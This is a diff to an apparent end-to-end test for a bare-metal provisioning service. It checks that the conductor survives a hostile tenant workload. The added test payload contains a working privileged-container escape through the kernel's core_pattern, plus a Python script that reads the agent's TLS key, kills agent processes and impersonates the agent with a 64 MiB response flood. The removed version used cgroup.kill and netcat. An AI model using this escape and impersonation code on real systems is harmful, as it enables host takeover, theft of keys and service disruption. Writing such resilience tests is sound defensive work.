@@ -10,19 +10,23 @@
 # License for the specific language governing permissions and limitations
 # under the License.
 
-"""A hostile workload on a real QEMU node: it kills the agent and answers
-in its place.
+"""A hostile workload on a real QEMU node: it leaves its container, kills
+the agent and answers in its place, with the agent's own TLS key.
 
 The job is privileged (the default: root next to the agent, as bare metal
-gives a tenant).  Once the deploy has ended it mounts the cgroup2
-hierarchy, kills every process of the agent's systemd unit through its
-``cgroup.kill`` (and again each time systemd restarts it), and listens on
-the agent's port itself, answering every request with 64 MiB: more than
-any reply the conductor reads (``output_max_mb`` plus ``results_max_mb``
-as base64, about 44 MiB).  What the run may reach is its own report: the
-run ends ``failed`` saying the node answered outside the protocol, the
-node is powered off, the conductor keeps running with its memory
-bounded, and an undeploy frees the node.
+gives a tenant).  Once the deploy has ended it points the kernel's
+``core_pattern`` at a script in its own root and dumps core: the kernel
+runs that script as root in the node's own namespaces (the classic escape
+of a privileged container).  The script starts a forger with the node's
+Python, which reads the agent's auto-TLS certificate and key, kills every
+agent process (again each time systemd restarts one) and serves the
+agent's port with that certificate, so the conductor's pinned-CA check
+passes, answering every request with 64 MiB: more than any reply the
+conductor reads (``output_max_mb`` plus ``results_max_mb`` as base64,
+about 44 MiB).  What the run may reach is its own report: the run ends
+``failed`` saying the node answered outside the protocol, the node is
+powered off, the conductor keeps running with its memory bounded, and an
+undeploy frees the node.
 """
 
 import pytest
@@ -33,38 +37,88 @@ from bmc_lab import container_job
 from bmc_lab import nodes
 from bmc_lab import procs
 
-#: The agent's systemd unit, in the node's cgroup2 hierarchy.
-AGENT_CGROUP = 'system.slice/ironic-python-agent.service'
-FLOOD = 64 * 1024 * 1024
+#: Where the agent stages the container's root (the overlay's merged
+#: tree): the image's files, as the node's own namespaces see them.
+NODE_ROOT = '/var/lib/bmc/root'
 
 HOSTILE = b"""#!/bin/sh
-# Wait for the deploy to end (the conductor then only polls), then take
-# the agent's place.
+# Wait for the deploy to end (the conductor then only polls).
 sleep 30
-busybox mkdir -p /tmp/cg
-busybox mount -t cgroup2 none /tmp/cg || exit 3
-kill_agent() {
-    echo 1 > /tmp/cg/%(cgroup)s/cgroup.kill 2>/dev/null
-}
-kill_agent && echo "hostile: agent killed"
-busybox sleep 1
-# systemd restarts the agent every 10 s (it then finds its port taken):
-# kill it each time anyway.
-( while :; do busybox sleep 2; kill_agent; done ) &
-echo "hostile: answering on 9999"
-exec busybox nc -ll -p 9999 -e /forge.sh
-""" % {b'cgroup': AGENT_CGROUP.encode()}
+echo "|%(root)s/escape.sh" > /proc/sys/kernel/core_pattern || exit 3
+ulimit -c unlimited
+sh -c 'kill -SEGV $$'
+echo "hostile: core dumped; the forger runs outside"
+sleep 3600
+""" % {b'root': NODE_ROOT.encode()}
 
-FORGE = b"""#!/bin/sh
-# One connection: skip the request's head, answer with the flood.
-CR=$(busybox printf '\\r')
-while read -r line; do
-    case "$line" in ''|"$CR") break;; esac
-done
-busybox printf 'HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\n'
-busybox printf 'Content-Length: %(n)d\\r\\n\\r\\n'
-exec head -c %(n)d /dev/zero
-""" % {b'n': FLOOD}
+#: Run by the kernel, as root, in the node's namespaces.
+ESCAPE = b"""#!/bin/sh
+/usr/bin/setsid /usr/bin/python3 %(root)s/forge.py </dev/null \
+    >/dev/null 2>&1 &
+exit 0
+""" % {b'root': NODE_ROOT.encode()}
+
+FORGE = b"""
+import http.server
+import os
+import signal
+import ssl
+import threading
+import time
+
+TLS = '/run/ironic-python-agent'
+FLOOD = 64 << 20
+
+
+def kill_agents():
+    while True:
+        for pid in os.listdir('/proc'):
+            if not pid.isdigit() or int(pid) == os.getpid():
+                continue
+            try:
+                with open('/proc/%s/cmdline' % pid, 'rb') as f:
+                    if b'ironic-python-agent' in f.read():
+                        os.kill(int(pid), signal.SIGKILL)
+            except OSError:
+                pass
+        time.sleep(1)
+
+
+class Flood(http.server.BaseHTTPRequestHandler):
+    def answer(self):
+        self.send_response(200)
+        self.send_header('Content-Type', 'application/json')
+        self.send_header('Content-Length', str(FLOOD))
+        self.end_headers()
+        chunk = b'0' * (1 << 20)
+        try:
+            for _ in range(FLOOD >> 20):
+                self.wfile.write(chunk)
+        except OSError:
+            pass
+
+    do_GET = do_POST = answer
+
+    def log_message(self, *args):
+        pass
+
+
+context = None
+if os.path.exists(os.path.join(TLS, 'agent.key')):
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(os.path.join(TLS, 'agent.crt'),
+                            os.path.join(TLS, 'agent.key'))
+threading.Thread(target=kill_agents, daemon=True).start()
+while True:
+    try:
+        server = http.server.ThreadingHTTPServer(('0.0.0.0', 9999), Flood)
+        break
+    except OSError:
+        time.sleep(0.2)
+if context:
+    server.socket = context.wrap_socket(server.socket, server_side=True)
+server.serve_forever()
+"""
 
 
 def _conductor_pid(lab):
@@ -83,7 +137,8 @@ def _memory_mib(pid, key):
 @pytest.fixture(scope='module')
 def hostile_run(lab):
     image = container_job.push_demo_image_with(
-        lab, 'e2e-hostile', {'/hostile.sh': HOSTILE, '/forge.sh': FORGE},
+        lab, 'e2e-hostile', {'/hostile.sh': HOSTILE, '/escape.sh': ESCAPE,
+                             '/forge.py': FORGE},
         cmd=['/hostile.sh'])
     pid = _conductor_pid(lab)
     rss_before = _memory_mib(pid, 'VmRSS')
